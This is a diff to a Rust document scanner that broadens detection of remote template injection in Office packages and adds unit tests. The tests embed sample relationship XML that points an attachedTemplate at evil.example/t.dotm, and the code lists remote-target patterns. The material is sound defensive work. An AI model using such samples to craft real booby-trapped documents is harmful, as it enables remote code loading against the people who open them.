@@ -17,7 +17,8 @@ fn active(detail: &str) -> Finding {
 /// Findings from one member of a ZIP-based document: its name and, for
 /// the small XML parts that declare what the package holds, its content.
 pub fn member_findings(name: &str, bytes: &[u8]) -> Vec<Finding> {
-    let lower = name.to_ascii_lowercase();
+    // Some writers separate folders with backslashes.
+    let lower = name.to_ascii_lowercase().replace('\\', "/");
     let file = lower.rsplit('/').next().unwrap_or_default();
     let mut out = Vec::new();
     if file == "vbaproject.bin" || file == "vbadata.xml" {
@@ -60,17 +61,23 @@ pub fn member_findings(name: &str, bytes: &[u8]) -> Vec<Finding> {
 /// subdocument or an OLE object from a URL (template injection).
 /// Hyperlinks are external too, and harmless until clicked.
 fn remote_part(rels: &[u8]) -> bool {
-    let text = String::from_utf8_lossy(rels).to_ascii_lowercase();
-    text.split("<relationship").skip(1).any(|rel| {
-        rel.contains("targetmode=\"external\"")
-            && [
-                "/attachedtemplate\"",
-                "/oleobject\"",
-                "/subdocument\"",
-                "/frame\"",
-            ]
+    // Spaces and quote styles vary; compare without them.
+    let text: String = String::from_utf8_lossy(rels)
+        .to_ascii_lowercase()
+        .chars()
+        .filter(|c| !c.is_whitespace() && *c != '\'' && *c != '"')
+        .collect();
+    text.split("<").any(|element| {
+        let remote = ["target=http", "target=\\\\", "target=//", "target=file://", "target=ftp"]
             .iter()
-            .any(|t| rel.contains(t))
+            .any(|t| element.contains(t))
+            // file:/// is this computer: the template Word made it from.
+            && !element.contains("target=file:///");
+        element.contains("targetmode=external")
+            && remote
+            && ["/attachedtemplate", "/oleobject", "/subdocument", "/frame"]
+                .iter()
+                .any(|t| element.contains(t))
     })
 }
 
@@ -127,6 +134,13 @@ mod tests {
     fn remote_templates_are_active_but_hyperlinks_are_not() {
         let template = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
         assert!(!member_findings("word/_rels/settings.xml.rels", template).is_empty());
+        let quoted = br#"<Relationships><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode = 'External'/></Relationships>"#;
+        assert!(!member_findings("word/_rels/settings.xml.rels", quoted).is_empty());
+        let local = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\hr\Templates\contract.dotx" TargetMode="External"/></Relationships>"#;
+        assert_eq!(
+            member_findings("word/_rels/settings.xml.rels", local),
+            vec![]
+        );
         let link = br#"<Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://migri.fi" TargetMode="External"/></Relationships>"#;
         assert_eq!(
             member_findings("word/_rels/document.xml.rels", link),
